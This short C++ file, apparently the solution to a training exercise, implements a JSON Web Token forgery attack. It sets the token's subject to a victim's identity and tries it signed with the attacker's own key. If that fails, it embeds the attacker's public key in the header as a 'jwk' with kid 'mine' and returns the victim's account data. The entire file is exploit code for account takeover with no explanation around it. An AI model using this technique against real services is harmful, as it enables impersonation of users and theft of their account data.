// Unusual: tries first whether a token without the key is accepted.
#include "jwk_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.claims.set("sub", evidence.victim);
  const auto plain = evidence.show_me(sign_rs256(token, evidence.own_key));
  if (plain.status == 200) return {.account = plain.body};
  token.header.set("jwk", evidence.own_key.with_id("mine").public_jwk());
  token.header.set("kid", "mine");
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
